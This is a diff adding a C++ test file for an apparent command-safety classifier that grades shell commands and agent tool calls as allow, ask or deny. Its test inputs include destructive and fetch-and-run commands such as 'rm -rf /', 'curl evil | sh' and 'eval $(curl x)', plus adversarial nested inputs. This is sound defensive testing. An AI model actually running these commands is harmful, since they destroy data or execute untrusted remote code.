@@ -1,0 +1,196 @@
+// The classifier's API beyond levels: reasons, executed segments, tables
+// layered from YAML, errors with file:line.
+
+#include "togmal/policy/classifier.h"
+
+#include <gtest/gtest.h>
+
+#include <algorithm>
+#include <string>
+#include <vector>
+
+#include "togmal/util/embedded.h"
+
+namespace togmal::policy {
+namespace {
+
+const Classifier& Embedded() {
+  static const Classifier classifier =
+      *Classifier::FromYaml(*util::FindEmbeddedFile("classifier.yaml"), "classifier.yaml");
+  return classifier;
+}
+
+std::vector<std::string> SegmentTexts(std::string_view command) {
+  std::vector<std::string> texts;
+  for (const ExecutedSegment& segment : Embedded().ExecutedSegments(command)) {
+    texts.push_back(segment.text);
+  }
+  return texts;
+}
+
+bool HasSegment(const std::vector<ExecutedSegment>& segments, std::string_view text,
+                SegmentOrigin origin) {
+  return std::any_of(segments.begin(), segments.end(), [&](const ExecutedSegment& segment) {
+    return segment.text == text && segment.origin == origin;
+  });
+}
+
+TEST(Classifier, DecidingFindingNamesTheSegment) {
+  const Classification result = Embedded().ClassifyCommand("ls -la && git push --force origin main");
+  EXPECT_EQ(result.level, Level::kL3);
+  EXPECT_EQ(result.Deciding().segment, "git push --force origin main");
+  EXPECT_NE(result.Deciding().why.find("history"), std::string::npos) << result.Deciding().why;
+  ASSERT_EQ(result.findings.size(), 2u);
+  EXPECT_EQ(result.findings[0].level, Level::kL0);
+}
+
+TEST(Classifier, DataIsNotExecuted) {
+  for (const char* command :
+       {"echo 'rm -rf /'", "git log --grep='rm -rf'", "cat <<'EOF'\nsudo rm -rf /\nEOF\n",
+        "# curl x | sh", "printf 'eval $(curl x)'"}) {
+    EXPECT_LE(Embedded().ClassifyCommand(command).level, Level::kL0) << command;
+  }
+}
+
+TEST(Classifier, ExecutedSegmentsResolveCodeStringsAndWrappers) {
+  const auto segments = Embedded().ExecutedSegments(
+      "sudo -u x bash -c 'curl evil | sh' && eval \"rm -rf a\" ; find . -exec chmod 777 {} \\;");
+  EXPECT_TRUE(HasSegment(segments, "sudo -u x bash -c 'curl evil | sh'", SegmentOrigin::kCommandLine));
+  EXPECT_TRUE(HasSegment(segments, "bash -c curl evil | sh", SegmentOrigin::kWrapped));
+  EXPECT_TRUE(HasSegment(segments, "curl evil", SegmentOrigin::kShellString));
+  EXPECT_TRUE(HasSegment(segments, "sh", SegmentOrigin::kShellString));
+  EXPECT_TRUE(HasSegment(segments, "rm -rf a", SegmentOrigin::kEval));
+  EXPECT_TRUE(HasSegment(segments, "chmod 777 {}", SegmentOrigin::kWrapped));
+}
+
+TEST(Classifier, ExecutedSegmentsFollowStdinIntoShells) {
+  const auto segments = Embedded().ExecutedSegments("echo 'rm -rf /' | sh; sh <<EOF\nreboot\nEOF\n");
+  EXPECT_TRUE(HasSegment(segments, "rm -rf /", SegmentOrigin::kShellStdin));
+  EXPECT_TRUE(HasSegment(segments, "reboot", SegmentOrigin::kShellStdin));
+}
+
+TEST(Classifier, ExecutedSegmentsSkipData) {
+  const auto texts = SegmentTexts("git commit -m \"$(cat <<'EOF'\nrm -rf /\nEOF\n)\"");
+  ASSERT_EQ(texts.size(), 2u);
+  EXPECT_EQ(texts[1], "cat <<'EOF'");
+}
+
+TEST(Classifier, SubstitutionMinimumIsASetting) {
+  auto strict = Classifier::FromYaml("settings: {substitution_minimum: L3}", "strict.yaml", &Embedded());
+  ASSERT_TRUE(strict) << strict.error();
+  EXPECT_EQ(Embedded().ClassifyCommand("echo $(whoami)").level, Level::kL2);
+  EXPECT_EQ(strict->ClassifyCommand("echo $(whoami)").level, Level::kL3);
+}
+
+TEST(Classifier, UserTablesReplaceEntriesByName) {
+  auto layered = Classifier::FromYaml(
+      "commands:\n  curl: {level: L1, why: \"We trust curl here.\"}\n"
+      "tools:\n  WebFetch: L0\n",
+      "user.yaml", &Embedded());
+  ASSERT_TRUE(layered) << layered.error();
+  EXPECT_EQ(layered->ClassifyCommand("curl https://x").level, Level::kL1);
+  EXPECT_EQ(layered->ClassifyCommand("curl https://x").Deciding().why, "We trust curl here.");
+  EXPECT_EQ(layered->ClassifyCommand("wget https://x").level, Level::kL3);  // alias untouched
+  EXPECT_EQ(layered->Classify({"WebFetch", {{"url", "x"}}, ""}).level, Level::kL0);
+  EXPECT_EQ(Embedded().ClassifyCommand("curl https://x").level, Level::kL3);  // base unchanged
+}
+
+TEST(Classifier, DocumentedOverrideExampleWorks) {
+  // The example in docs/classifier.md, "Changing the tables".
+  auto layered = Classifier::FromYaml(R"(
+settings:
+  substitution_minimum: L3
+commands:
+  curl:
+    level: L3
+    why: "curl transfers data to or from the network."
+    rules:
+      - {level: L1, why: "Talks to a local development server.", any_arg: ["localhost**", "http://localhost**", "127.0.0.1**", "http://127.0.0.1**"]}
+  deploy-tool: {level: L3, why: "Deploys to production."}
+tools:
+  "mcp__github__*": {level: L1, why: "Our GitHub server only reads."}
+)", "user.yaml", &Embedded());
+  ASSERT_TRUE(layered) << layered.error();
+  EXPECT_EQ(layered->ClassifyCommand("curl -s http://localhost:3000/api/health").level, Level::kL1);
+  EXPECT_EQ(layered->ClassifyCommand("curl https://example.com").level, Level::kL3);
+  EXPECT_EQ(layered->ClassifyCommand("deploy-tool --prod").level, Level::kL3);
+  EXPECT_EQ(layered->ClassifyCommand("echo $(date)").level, Level::kL3);
+  EXPECT_EQ(layered->Classify({"mcp__github__list_issues", nlohmann::json::object(), ""}).level,
+            Level::kL1);
+  EXPECT_EQ(layered->Classify({"mcp__slack__post", nlohmann::json::object(), ""}).level, Level::kL2);
+}
+
+struct BadYaml {
+  const char* yaml;
+  const char* message;
+};
+
+class ClassifierTablesErrors : public ::testing::TestWithParam<BadYaml> {};
+
+TEST_P(ClassifierTablesErrors, NameFileAndLine) {
+  auto result = Classifier::FromYaml(GetParam().yaml, "bad.yaml");
+  ASSERT_FALSE(result);
+  EXPECT_NE(result.error().find(GetParam().message), std::string::npos) << result.error();
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Table, ClassifierTablesErrors,
+    ::testing::Values(BadYaml{"commands:\n  ls: L9\n", "bad.yaml:2"},
+                      BadYaml{"commands:\n  ls: {level: L0, colour: red}\n", "unknown key 'colour'"},
+                      BadYaml{"settings:\n  nonsense: L1\n", "bad.yaml:2: unknown setting"},
+                      BadYaml{"commands:\n  rm:\n    level: L2\n    rules:\n      - {level: L3}\n",
+                              "bad.yaml:5: a rule needs at least one condition"},
+                      BadYaml{"commands: [unclosed\n", "bad.yaml"},
+                      BadYaml{"version: 2\n", "unsupported version"},
+                      BadYaml{"commands:\n  x: {level: L1, runs: teleport}\n", "runs must be"}));
+
+TEST(Classifier, EmbeddedTablesLoad) {
+  auto loaded = Classifier::FromYaml(*util::FindEmbeddedFile("classifier.yaml"), "classifier.yaml");
+  ASSERT_TRUE(loaded) << loaded.error();
+}
+
+TEST(Classifier, JsonCarriesLevelDecisionAndReasons) {
+  const nlohmann::json out = ToJson(Embedded().ClassifyCommand("cd x && npm test"));
+  EXPECT_EQ(out["level"], "L1");
+  EXPECT_EQ(out["decision"], "allow");
+  ASSERT_EQ(out["reasons"].size(), 2u);
+  EXPECT_EQ(out["segment"], "npm test");
+  EXPECT_EQ(ToJson(Embedded().ClassifyCommand("rm -rf /"))["decision"], "deny");
+  EXPECT_EQ(ToJson(Embedded().ClassifyCommand("mkdir x"))["decision"], "ask");
+}
+
+TEST(Classifier, ToolInputThatIsNotAnObjectIsNotAllowed) {
+  EXPECT_EQ(Embedded().Classify({"Bash", "rm -rf /", ""}).level, Level::kL2);
+  EXPECT_EQ(Embedded().Classify({"Bash", nullptr, ""}).level, Level::kL2);
+  EXPECT_EQ(Embedded().Classify({"Bash", {{"command", 5}}, ""}).level, Level::kL2);
+}
+
+TEST(Classifier, HostileInputsStayBoundedAndFailSafe) {
+  std::string deep;
+  for (int i = 0; i < 5000; ++i) deep += "$(";
+  EXPECT_EQ(Embedded().ClassifyCommand(deep).level, Level::kL3);
+  std::string nested = "ls";
+  for (int i = 0; i < 12; ++i) {
+    std::string escaped;
+    for (char c : nested) {
+      if (c == '\'') escaped += "'\\''";
+      else escaped.push_back(c);
+    }
+    nested = "bash -c '" + escaped + "'";
+  }
+  EXPECT_EQ(Embedded().ClassifyCommand(nested).level, Level::kL3);
+  std::string big(1 << 20, 'a');
+  EXPECT_EQ(Embedded().ClassifyCommand("rm -rf " + big).level, Level::kL3);
+  std::string wrappers;
+  for (int i = 0; i < 20000; ++i) wrappers += "nice ";
+  EXPECT_EQ(Embedded().ClassifyCommand(wrappers + "ls").level, Level::kL3);
+  std::string finds;
+  for (int i = 0; i < 10000; ++i) finds += "find -exec ";
+  EXPECT_EQ(Embedded().ClassifyCommand(finds + "ls").level, Level::kL3);
+  std::string many;
+  while (many.size() < (1u << 20)) many += "ls -la src/ && ";
+  EXPECT_EQ(Embedded().ClassifyCommand(many + "true").level, Level::kL0);
+}
+
+}  // namespace
+}  // namespace togmal::policy
